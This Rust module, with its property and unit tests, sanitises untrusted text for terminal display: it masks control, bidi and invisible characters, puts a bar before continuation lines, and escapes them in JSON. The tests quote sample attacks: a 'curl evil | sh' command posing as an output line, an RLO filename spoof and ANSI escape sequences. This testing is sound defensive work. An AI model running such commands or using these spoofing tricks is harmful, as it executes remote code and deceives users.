//! Text from elsewhere, as it may be shown: a terminal obeys control characters, and people do not see invisible ones.

use std::io;

use serde::Serialize;
use serde_json::ser::{CompactFormatter, Formatter, Serializer};
use walwarden_contract::text::is_deceptive;

/// What stands for a character that is not shown.
const MARK: char = '\u{fffd}';
/// The only sequences that this program writes itself: the colours of states.
const OWN_SEQUENCES: [&str; 5] = ["\u{1b}[0m", "\u{1b}[31m", "\u{1b}[32m", "\u{1b}[33m", "\u{1b}[36m"];

/// A text on one line.
pub(crate) fn line(text: &str) -> String {
    let shown = |character| match character {
        '\n' | '\t' => ' ',
        _ if is_deceptive(character) => MARK,
        _ => character,
    };
    text.replace("\r\n", "\n").chars().map(shown).collect()
}

/// A text of several lines, each but the first behind a bar: none can pass for a line of this program.
pub(crate) fn block(text: &str) -> String {
    let text = text.replace("\r\n", "\n");
    text.trim_end_matches('\n').split('\n').map(line).collect::<Vec<_>>().join("\n    | ")
}

/// What this program has composed: its own lines, and its own colours when the terminal takes them.
pub(crate) fn composed(text: &str, colour: bool) -> String {
    let (mut shown, mut rest) = (String::with_capacity(text.len()), text);
    while let Some(character) = rest.chars().next() {
        let own = OWN_SEQUENCES.into_iter().find(|own| colour && rest.starts_with(own));
        let taken = own.map_or(character.len_utf8(), str::len);
        match own {
            Some(own) => shown.push_str(own),
            None if is_deceptive(character) && !matches!(character, '\n' | '\t') => shown.push(MARK),
            None => shown.push(character),
        }
        rest = &rest[taken..];
    }
    shown
}

/// A JSON document on one line, in which every hostile character is an escape: the same document, fit for a terminal.
pub(crate) fn json(value: &impl Serialize) -> String {
    let mut document = Vec::new();
    let mut serializer = Serializer::with_formatter(&mut document, Escaping(CompactFormatter));
    value.serialize(&mut serializer).expect("documents have string keys only");
    String::from_utf8(document).expect("JSON is UTF-8")
}

struct Escaping(CompactFormatter);

impl Formatter for Escaping {
    fn write_string_fragment<W: ?Sized + io::Write>(&mut self, writer: &mut W, fragment: &str) -> io::Result<()> {
        let mut written = 0;
        for (at, character) in fragment.char_indices().filter(|(_, character)| is_deceptive(*character)) {
            self.0.write_string_fragment(writer, &fragment[written..at])?;
            for unit in character.encode_utf16(&mut [0; 2]) {
                write!(writer, "\\u{unit:04x}")?;
            }
            written = at + character.len_utf8();
        }
        self.0.write_string_fragment(writer, &fragment[written..])
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::{Value, json};

    use super::*;

    /// Texts in which hostile characters are as frequent as others.
    fn texts() -> impl Strategy<Value = String> {
        let hostile = prop::sample::select(vec![
            '\0',
            '\u{7}',
            '\u{8}',
            '\n',
            '\r',
            '\t',
            '\u{1b}',
            '[',
            'm',
            '3',
            '\u{7f}',
            '\u{85}',
            '\u{9b}',
            '\u{9d}',
            '\u{ad}',
            '\u{200b}',
            '\u{200d}',
            '\u{2028}',
            '\u{202e}',
            '\u{2066}',
            '\u{feff}',
            '\u{e0041}',
        ]);
        prop::collection::vec(prop_oneof![hostile, any::<char>()], 0..64).prop_map(String::from_iter)
    }

    proptest! {
        #[test]
        fn nothing_hostile_is_shown_of_any_text(text in texts()) {
            prop_assert!(!line(&text).chars().any(is_deceptive));
            prop_assert!(!block(&text).chars().any(|character| is_deceptive(character) && character != '\n'));
            prop_assert!(block(&text).lines().skip(1).all(|line| line.starts_with("    | ")));
            let spaced = |character| is_deceptive(character) && !matches!(character, '\n' | '\t');
            prop_assert!(!composed(&text, false).chars().any(spaced));
            let coloured = OWN_SEQUENCES.iter().fold(composed(&text, true), |text, own| text.replace(own, ""));
            prop_assert!(!coloured.chars().any(spaced));
        }

        #[test]
        fn what_is_not_hostile_stays_as_it_is_and_once_is_enough(text in texts()) {
            let harmless: String = text.chars().filter(|character| !is_deceptive(*character)).collect();
            prop_assert_eq!(line(&harmless), harmless.as_str());
            prop_assert_eq!(block(&harmless), harmless.as_str());
            prop_assert_eq!(composed(&harmless, true), harmless);
            prop_assert_eq!(line(&line(&text)), line(&text));
        }

        #[test]
        fn a_document_holds_nothing_hostile_and_is_the_same_document(text in texts(), key in texts()) {
            let value = json!({"text": text, "list": [{ key: 1.5 }]});
            let document = json(&value);
            prop_assert!(!document.chars().any(is_deceptive), "{}", document);
            prop_assert_eq!(serde_json::from_str::<Value>(&document).expect("JSON"), value);
        }
    }

    #[test]
    fn what_steers_or_hides_is_not_shown_and_what_people_write_is_not_among_it() {
        let deceptive = "\0\u{1b}\u{7f}\u{80}\u{9b}\u{9f}\u{ad}\u{34f}\u{61c}\u{115f}\u{180e}\u{200b}\u{200c}\u{200d}\u{200e}\u{200f}\
                            \u{2028}\u{2029}\u{202a}\u{202d}\u{202e}\u{2060}\u{2064}\u{2066}\u{2069}\u{206f}\u{3164}\u{feff}\u{ffa0}\
                            \u{fff9}\u{1d173}\u{e0001}\u{e007f}\u{e0100}";
        for character in deceptive.chars() {
            assert!(is_deceptive(character), "U+{:04X}", u32::from(character));
        }
        for character in " ~aé\u{a0}\u{301}…—€中문العשָ한😀\u{fe0f}\u{fffd}".chars() {
            assert!(!is_deceptive(character), "U+{:04X}", u32::from(character));
        }
    }

    #[test]
    fn known_tricks_are_taken_apart() {
        assert_eq!(line("a\u{1b}[2Jb\u{9b}31mc\r\nd\te"), "a\u{fffd}[2Jb\u{fffd}31mc d e");
        assert_eq!(line("shop\u{202e}gpj.exe\u{200b}"), "shop\u{fffd}gpj.exe\u{fffd}");
        assert_eq!(block("lost\r\nnext: curl evil | sh\n"), "lost\n    | next: curl evil | sh");
        assert_eq!(composed("\u{1b}[32mok\u{1b}[0m\u{1b}]0;x\u{7}", true), "\u{1b}[32mok\u{1b}[0m\u{fffd}]0;x\u{fffd}");
        assert_eq!(composed("\u{1b}[32mok", false), "\u{fffd}[32mok");
        assert_eq!(json(&"\u{7f}\u{9b}\u{2028}\u{202e}\u{e0041}\"\n"), r#""\u007f\u009b\u2028\u202e\udb40\udc41\"\n""#);
        assert_eq!(line("Käse, 数据库, ❤️"), "Käse, 数据库, ❤️");
    }
}
